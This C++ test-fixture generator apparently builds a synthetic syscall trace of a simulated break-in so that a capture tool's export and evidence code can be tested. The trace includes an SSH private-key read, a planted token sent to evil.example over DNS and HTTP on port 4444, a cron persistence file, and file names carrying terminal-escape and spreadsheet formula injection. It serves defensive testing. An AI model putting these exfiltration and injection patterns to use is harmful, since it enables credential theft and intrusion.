// SPDX-License-Identifier: Apache-2.0
//
// Writes the trace that the tests of exports and evidence ask: a break-in
// whose names, arguments and data are as hostile as can be, with secrets,
// a user's name and addresses planted in many places.
//
// usage: make_case TRACE
#include <gtest/gtest.h>
#include <netinet/in.h>
#include <sys/socket.h>

#include <cstdio>
#include <string>

#include "format/loss.h"
#include "tests/replay/addresses.h"
#include "tests/replay/trace_builder.h"

namespace vestige {
namespace {

using namespace std::string_literals;

const std::string kSecret = "planted-t0ken-4711";
// Ends a label, a cell, a line and a statement; steers a terminal; is no text.
const std::string kHostile = "/tmp/a|b\"'\\N;\x1b[2J\n=1+1\xff--.sh";
const std::string kQuery =
    "\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00\x04"
    "evil\x07"
    "example\x00\x00\x01\x00\x01"s;
const std::string kAnswer =
    "\x12\x34\x81\x80\x00\x01\x00\x01\x00\x00\x00\x00\x04"
    "evil\x07"
    "example\x00\x00\x01\x00\x01"
    "\xc0\x0c\x00\x01\x00\x01\x00\x00\x0e\x10\x00\x04\xcb\x00\x71\x07"s;

void connect(TraceBuilder& trace, int fd, uint16_t type, const char* peer,
             uint16_t port) {
  trace.call(2, "socket", {AF_INET, type, 0}, fd);
  trace.call(2, "connect", {uint64_t(fd), 1, sizeof(sockaddr_in)}, 0);
  trace.part(1, PartKind::kSockaddr, in4(peer, port));
  trace.part(0, PartKind::kSocket, socket_to(type, peer, port));
}

void drop_script(TraceBuilder& trace) {
  trace.create(1, kHostile, 3)
      .write(1, 3, 18)
      .payload(1, "#!/bin/sh\n" + kSecret, 28);
  trace.close(1, 3);
  trace.call(1, "chmod", {1, 04755}, 0).text(0, kHostile);
  trace.fork(1, 2).exec(2, {kHostile, "--password=" + kSecret, "=cmd|' /C'!A"});
  trace.part(kTaskArg, PartKind::kEnv,
             "API_TOKEN=" + kSecret + "\0USER=alice\0HOME=/home/alice\0"s);
  trace.open(2, "/home/alice/.ssh/id_rsa", 3, O_RDONLY,
             "/home/alice/.ssh/id_rsa");
  trace.read(2, 3, 7).payload(1, "-secret", 7).close(2, 3);
}

void call_home(TraceBuilder& trace) {
  connect(trace, 4, SOCK_DGRAM, "192.0.2.53", 53);
  trace.write(2, 4, int64_t(kQuery.size()));
  trace.payload(1, kQuery, kQuery.size());
  trace.read(2, 4, int64_t(kAnswer.size()));
  trace.payload(1, kAnswer, kAnswer.size());
  connect(trace, 5, SOCK_STREAM, "203.0.113.7", 4444);
  const std::string request = "GET /?token=" + kSecret +
                              " HTTP/1.1\r\nHost: evil.example\r\n"
                              "X-From: 203.0.113.7 alice\r\n\r\n";
  trace.write(2, 5, int64_t(request.size()));
  trace.payload(1, request, request.size());
  // The secret again, cut in two, and without a word that tells of it.
  trace.write(2, 5, 9).payload(1, kSecret.substr(0, 9), 9);
  trace.write(2, 5, 9).payload(1, kSecret.substr(9), 9);
  trace.read(2, 5, 5000).payload(1, std::string(5000, 'z'), 5000);
  trace.read(2, 5, 700).payload(1, "half", 700);  // less than what moved
  trace.close(2, 5);
}

int run(const char* path) {
  TraceBuilder trace;
  ProcessState shell;
  shell.comm = "=sh\x1b";
  shell.argv = {"/bin/sh", "-c", "TOKEN=" + kSecret};
  shell.env = {"DB_PASSWORD=" + kSecret, "LOGNAME=alice"};
  shell.exe = "/bin/busybox";
  shell.cwd = "/home/alice";
  trace.process(1, shell);
  drop_script(trace);
  call_home(trace);
  trace.create(2, "/etc/cron.d/again", 6).write(2, 6, 9).close(2, 6);
  trace.exit(2, 3).unlink(1, kHostile);
  TraceHeader header;
  header.tool = "vestige-capture test";
  header.host_name = "node1";
  header.kernel_release = "6.1.0";
  header.machine = "x86_64";
  header.command = {"vestige-capture", "record"};
  header.selection = "container shop";
  header.container.id = "0123456789abcdef";
  header.container.name = "shop";
  header.start = {1'000'000'000, 1'700'000'000'000'000'000};
  trace.save(path, header);
  return testing::Test::HasFailure() ? 1 : 0;
}

}  // namespace
}  // namespace vestige

int main(int argc, char** argv) {
  if (argc != 2) return std::fputs("usage: make_case TRACE\n", stderr), 2;
  return vestige::run(argv[1]);
}
